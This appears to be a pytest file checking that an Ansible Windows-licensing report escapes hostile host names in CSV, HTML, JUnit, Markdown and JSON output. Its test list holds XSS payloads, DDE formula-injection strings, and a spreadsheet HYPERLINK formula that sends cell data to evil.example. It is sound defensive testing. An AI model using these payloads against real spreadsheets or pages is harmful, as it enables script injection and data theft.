# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# Copyright: (c) 2026, licensing.windows contributors
"""Hostile host names and strings through every format: nothing breaks out, nothing leaks, nothing is lost silently."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import datetime, timezone
from html.parser import HTMLParser

import pytest

from ansible_collections.licensing.windows.plugins.plugin_utils._audit.verdict import verdicts
from ansible_collections.licensing.windows.plugins.plugin_utils._report.render_csv import COLUMNS, neutralize, render_csv
from ansible_collections.licensing.windows.plugins.plugin_utils._report.render_html import render_html
from ansible_collections.licensing.windows.plugins.plugin_utils._report.render_json import render_json
from ansible_collections.licensing.windows.plugins.plugin_utils._report.render_junit import render_junit, xml_text
from ansible_collections.licensing.windows.plugins.plugin_utils._report.render_markdown import escape_cell, render_markdown
from ansible_collections.licensing.windows.plugins.plugin_utils._report.model import build_report, load_report
from ansible_collections.licensing.windows.plugins.plugin_utils._report.summary import render_summary_table
from ansible_collections.licensing.windows.plugins.plugin_utils._text import TRUNCATION_MARKER, clean_text

FULL_KEY = "Q7W3E-R5T6Y-U8I9O-P1A2S-D3F4G"
HOSTILE = [
    "<script>alert(1)</script>",
    "</script><!--<script>alert(2)//",
    '"><img src=x onerror=alert(3)>',
    '=HYPERLINK("http://evil.example/steal?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=tab-then-formula",
    "\r=cr-then-formula",
    "  =spaces-then-formula",
    "\uff1dfullwidth-equals",
    "pipe|back`tick`\n# heading\n- list",
    "[link](javascript:alert(4)) ![img](http://evil.example/x.png)",
    "quote\"and'apostrophe,comma;semicolon",
    "hôte-東京-🙂",
    "ctrl\x00\x07\x08\x0b\x0c\x1b[31mred\x7f\x85end",
    "bidi\u202etxt.exe",
    "sep\u2028line\u2029para",
    "lone\ud800surrogate",
    "]]><![CDATA[x]]>&amp;&#0;",
    f"key {FULL_KEY} leaked",
    "x" * 20000,
]
GENERATED = datetime(2026, 11, 21, 10, 30, tzinfo=timezone.utc)


def hostile_results() -> dict:
    results = {}
    for index, text in enumerate(HOSTILE):
        if index % 2:
            # A failed host: the hostile text is its error message.
            results[text] = {"failed": True, "error_code": "command_failed", "msg": text}
        else:
            results[text] = {"changed": False, "ansible_facts": {"windows_license": {
                "collected_at": "2026-11-21T10:00:00Z",
                "license_status": "licensed",
                "activation": {"method": "product_key", "digital_license": False},
                "product": {"channel": text, "edition": text, "partial_product_key": "ABCDE"},
                "os": {"caption": text, "is_server": False},
                "kms": {"configured_host": text, "is_kms_host": False},
                "grace_remaining_minutes": 0,
            }}}
    return results


@pytest.fixture(scope="module", name="report")
def fixture_report() -> dict:
    results = hostile_results()
    return build_report(verdicts(list(results), results, {}), {}, GENERATED, "licensing.windows 0.1.0")


def all_strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from all_strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from all_strings(item)


def every_output(report) -> dict:
    return {
        "json": render_json(report),
        "csv": render_csv(report),
        "html": render_html(report),
        "junit": render_junit(report),
        "markdown": render_markdown(report),
        "summary": render_summary_table(report),
    }


def test_every_hostile_host_is_reported(report):
    assert len(report["hosts"]) == len(HOSTILE)
    names = {item["host"] for item in report["hosts"]}
    assert names == {clean_text(text, 255) for text in HOSTILE}


def test_model_strings_are_single_line_bounded_and_encodable(report):
    for text in all_strings(report):
        assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text), repr(text)
        assert not re.search("[\ud800-\udfff]", text)
        assert len(text) <= 2000
        text.encode("utf-8")
    long_host = next(item for item in report["hosts"] if item["host"].startswith("xxx"))
    assert long_host["host"] == "x" * (255 - len(TRUNCATION_MARKER)) + TRUNCATION_MARKER


def test_no_output_carries_a_full_product_key(report):
    for name, text in every_output(report).items():
        assert FULL_KEY not in text and "Q7W3E" not in text, name
        assert "D3F4G" in text, name  # masked to its last five characters, not dropped


def test_json_round_trips(report):
    text = render_json(report)
    text.encode("utf-8")
    assert load_report(text) == report


def test_csv_cells_cannot_become_formulas(report):
    rows = list(csv.reader(io.StringIO(render_csv(report), newline="")))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(HOSTILE) + 1
    for row in rows[1:]:
        assert len(row) == len(COLUMNS)
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), repr(cell)
            assert not re.search("[\x00-\x08\x0a-\x1f\x7f]", cell), repr(cell)
    hosts = [row[0] for row in rows[1:]]
    assert "'=HYPERLINK(\"http://evil.example/steal?\"&A1,\"click\")" in hosts
    assert "'-2+3" in hosts and "'@SUM(1+1)*cmd|' /C calc'!A0" in hosts and "'+cmd|' /C calc'!A0" in hosts
    assert "'=tab-then-formula" in hosts  # the tab became a space, which clean_text then stripped
    assert "'=spaces-then-formula" in hosts
    assert "quote\"and'apostrophe,comma;semicolon" in hosts  # quoting keeps the cell whole


@pytest.mark.parametrize(
    "value, expected",
    [("=1+1", "'=1+1"), (" -1", "'-1"), ("ok", "ok"), (None, ""), (True, "true"), (False, "false"), (-3, "-3"),
     ("a=b", "a=b"), ("\uff20x", "'\uff20x")],
)
def test_neutralize(value, expected):
    assert neutralize(value) == expected


class StrictParser(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.cells = []
        self._in_cell = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag == "td" and ("class", "host-name") in attrs:
            self._in_cell = True
            self.cells.append("")

    def handle_endtag(self, tag):
        if tag == "td":
            self._in_cell = False

    def handle_data(self, data):
        if self._in_cell:
            self.cells[-1] += data


def test_html_escapes_every_value(report):
    page = render_html(report)
    parser = StrictParser()
    parser.feed(page)
    parser.close()
    tags = [tag for tag, _attrs in parser.elements]
    assert tags.count("script") == 1 and tags.count("style") == 1
    assert "img" not in tags
    for tag, attrs in parser.elements:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
    # The host cells show the (cleaned) names exactly, as text.
    assert sorted(parser.cells) == sorted(item["host"] for item in report["hosts"])
    assert page.lower().count("</script") == 1
    assert "<!--" not in page
    assert "\u2028" not in page and "\u2029" not in page
    # Hostile text shows up only as text or inert data-* values, never as an attribute that loads or links.
    for tag, attrs in parser.elements:
        assert not {"src", "href", "srcset", "action", "formaction", "style"} & set(attrs), (tag, attrs)


def test_junit_is_well_formed_and_keeps_names(report):
    text = render_junit(report)
    root = ET.fromstring(text.encode("utf-8"))
    names = [case.get("name") for case in root.iter("testcase")]
    assert names == [xml_text(item["host"]) for item in report["hosts"]]
    assert "<script>" not in text
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text)


def test_xml_text_drops_what_xml_cannot_hold():
    assert xml_text("a\x00b\x1bc\ufffed\t\n") == "abcd\t\n"
    assert xml_text(None) == ""


def test_markdown_rows_keep_their_shape(report):
    text = render_markdown(report)
    lines = text.splitlines()
    start = lines.index("| Host | Status | Reasons | Summary |")
    rows = lines[start + 2:start + 2 + len(HOSTILE)]
    assert len(rows) == len(HOSTILE)  # every hostile host needs attention, and each is one line
    for row in rows:
        assert len(re.findall(r"(?<!\\)\|", row)) == 5, row
        assert "<" not in row and ">" not in row
        assert not re.search(r"(?<!\\)[`\[\]!*_]", row.replace("`collection_failed`", "").replace("`not_digital_entitlement`", ""))
    headings = [line for line in lines if line.startswith("#")]
    assert headings == ["# Windows license audit", "## Hosts by status", "## Hosts by activation method", "## Reasons",
                        "## Hosts that need attention"]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("a|b", "a\\|b"),
        ("<b>&</b>", "&lt;b&gt;&amp;&lt;/b&gt;"),
        ("`code` *em* _u_ [l](u) ![i](u) #h ~s~ \\", "\\`code\\` \\*em\\* \\_u\\_ \\[l\\]\\(u\\) \\!\\[i\\]\\(u\\) \\#h \\~s\\~ \\\\"),
        ("two\nlines", "two lines"),
        ("y" * 400, "y" * (300 - len(TRUNCATION_MARKER)) + "…\\[truncated\\]"),
    ],
)
def test_markdown_escape_cell(value, expected):
    assert escape_cell(value) == expected


def test_summary_table_stays_a_table(report):
    lines = render_summary_table(report).splitlines()
    for line in lines:
        assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029]", line), repr(line)
    assert all(len(line.split("  ")[0]) <= 40 for line in lines[2:])
    assert any(line.startswith("xxxxxxxxx") and "…[truncated]" in line for line in lines)


def test_very_long_values_are_visibly_cut_everywhere(report):
    outputs = every_output(report)
    for name, text in outputs.items():
        assert TRUNCATION_MARKER in text or "…\\[truncated\\]" in text, name
        assert "x" * 2001 not in text, name
    # A handful of hostile hosts cannot blow the files up.
    assert len(outputs["html"]) < 400_000
    assert json.loads(outputs["json"])["summary"]["total"] == len(HOSTILE)
